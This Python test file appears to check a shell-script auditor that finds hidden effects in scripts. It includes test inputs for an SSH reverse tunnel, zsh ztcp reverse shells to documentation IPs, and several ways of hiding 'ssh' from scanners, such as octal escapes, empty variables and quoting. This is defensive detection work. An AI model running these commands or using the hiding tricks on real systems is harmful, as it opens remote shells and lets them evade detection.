"""Forms that once were unknown: negated patterns, groups of expressions, the plain sh's echo, variables nobody sets."""

from __future__ import annotations

import subprocess
from dataclasses import replace

import pytest

from auditor.read.shell.patterns import compile_pattern
from auditor.settings import DEFAULT_LIMITS
from tests.read.shell.scripts import TUNNEL, lines, read

ENVIRONMENT = {"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"}
PATTERNS = ["!(a)", "!(a|b)", "a!(b)c", "!(*.txt)", "!(a*)b", "x!(y)!(z)", "?!(a)", "!()", "!(+(a))", "a!(a)"]
TEXTS = ["", "a", "b", "ab", "abc", "ac", "aac", "x.txt", "x.sh", "xy", "xz", "xyz", "aab", "bb"]


@pytest.mark.parametrize("pattern", PATTERNS)
def test_negated_groups_match_as_in_bash(pattern: str) -> None:
    """`!(…)` at the top of a pattern matches just what bash says, at once and as prefix and suffix."""
    compiled = compile_pattern(pattern)
    assert compiled is not None
    script = "shopt -s extglob\nfor t; do [[ $t == " + pattern + " ]]; echo $?; done"
    said = subprocess.run(["bash", "-c", script, "x", *TEXTS], capture_output=True, check=True, env=ENVIRONMENT)
    assert [int(not compiled.matches(text)) for text in TEXTS] == [int(line) for line in said.stdout.split()]


def test_a_negated_group_in_another_is_refused() -> None:
    """What cannot be decided stays undecided."""
    assert compile_pattern("@(a|!(b))") is None
    assert compile_pattern("*!(a)") is None
    assert compile_pattern("!(a|!(b))") is None


@pytest.mark.parametrize(
    "text",
    [
        f"x='junk {TUNNEL}'\nshopt -s extglob; ${{x#!(*ssh*) }}",
        f'x="run: {TUNNEL}; end"\n[[ $x =~ run:\\ ([^;]+)\\;\\ (end) ]] && ${{BASH_REMATCH[1]}}',
        'x="ssh=203.0.113.9"\n[[ $x =~ ^(s+h)=([0-9]+(\\.[0-9]+){3})$ ]]\n'
        '"${BASH_REMATCH[1]}" -N -R 7001:localhost:22 "bot@${BASH_REMATCH[2]}"',
        f'x="a.b {TUNNEL}"\n[[ $x =~ "a.b"\\ (.*) ]]\n${{BASH_REMATCH[1]}}',
        f"#!/bin/sh\necho 'true\\n{TUNNEL}' | sh",
        f"#!/bin/sh\necho '\\163{TUNNEL[1:]}' | sh",
        f'#!/bin/sh\necho "\\0163{TUNNEL[1:]}" | sh',
        TUNNEL.replace("ssh", 's$u"sh"'),
        TUNNEL.replace("ssh", "s${nothing}sh"),
        TUNNEL.replace("ssh", "$nothing'ssh'"),
        TUNNEL.replace("-R", "-${q}R").replace("ssh", "ss$q\\h"),
    ],
)
def test_what_was_unknown_is_read(text: str) -> None:
    """The tunnel is among the effects."""
    assert TUNNEL in lines(text)


def test_a_variable_from_outside_stays_a_hole() -> None:
    """Names that an environment gives, and words with other signs around a name, have no empty alternative."""
    assert "curl" not in lines('curl "$URL"')
    assert len(lines("rm -r /srv/$RUN/x")) == len(lines("rm -r /srv/y/x"))
    assert len(lines("${CROSS}gcc -c a.c")) == 1
    assert all("/data//x" not in line for line in lines("cat /data/$run/x"))


def test_bash_does_not_resolve_escapes_of_echo() -> None:
    """Only a plain sh may be dash."""
    assert TUNNEL not in lines(f"#!/bin/bash\necho '\\163{TUNNEL[1:]}' | sh")


def test_a_connection_of_zsh_becomes_a_shells_input() -> None:
    """`ztcp` connects, REPLY names the descriptor, and a shell over it is a reverse shell."""
    found = lines("zmodload zsh/net/tcp && ztcp 203.0.113.4 4455 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY")
    assert "net.connect tcp 203.0.113.4 4455" in found
    assert "process.stdio socket 203.0.113.4 4455" in found
    found = lines("ztcp -l 4455; ztcp -a $REPLY; zsh -i <&$REPLY >&$REPLY")
    assert "net.listen tcp 0.0.0.0 4455" in found
    assert "process.stdio socket 0.0.0.0 4455" in found


def nested(levels: int) -> str:
    return "echo " + "$(echo " * levels + TUNNEL.split()[0] + ")" * levels


LIMITS = [
    ("shell_nesting", nested),
    ("shell_calls", lambda n: "".join(f"f{i}() {{ f{i + 1} a; }}\n" for i in range(1, n)) + f"f{n}() {{ :; }}\nf1 a\n"),
]


@pytest.mark.parametrize(("name", "make"), LIMITS, ids=[name for name, _ in LIMITS])
def test_limits_hold_at_the_bound_and_one_past_it(name: str, make: object) -> None:
    """At the limit nothing is missed; one past it is a gap."""
    assert callable(make)
    limits = replace(DEFAULT_LIMITS, **{name: 5})
    assert read(make(5), limits).gaps == ()
    assert read(make(6), limits).gaps != ()


def test_a_pattern_past_its_bound_decides_nothing() -> None:
    """Two states a character, and one to begin with."""
    assert compile_pattern("a?c", most_states=7) is not None
    assert compile_pattern("a?c", most_states=6) is None


def test_uncalled_functions_past_the_bound_are_not_walked() -> None:
    """The bound counts definitions in order."""
    text = f"a() {{ :; }}\nb() {{ {TUNNEL}; }}\n"
    limits = replace(DEFAULT_LIMITS, shell_functions=2)
    assert len(read(text, limits).effects) == 1
    assert len(read(text, replace(limits, shell_functions=1)).effects) == 0


def test_arithmetic_past_its_bounds_is_unknown() -> None:
    """Tokens and depth, at the limit and past it."""
    limits = replace(DEFAULT_LIMITS, arithmetic_tokens=5)
    shown = [read(f"sleep $(({text}))", limits).effects[0].stages[0][1].text for text in ("1+2+3", "1+2+3+4")]
    assert shown == ["6", None]
    limits = replace(DEFAULT_LIMITS, arithmetic_depth=6)
    texts = ["(" * n + "2" + ")" * n for n in (1, 2, 3, 4)]
    shown = [read(f"sleep $(({text}))", limits).effects[0].stages[0][1].text for text in texts]
    assert shown == ["2", "2", None, None]
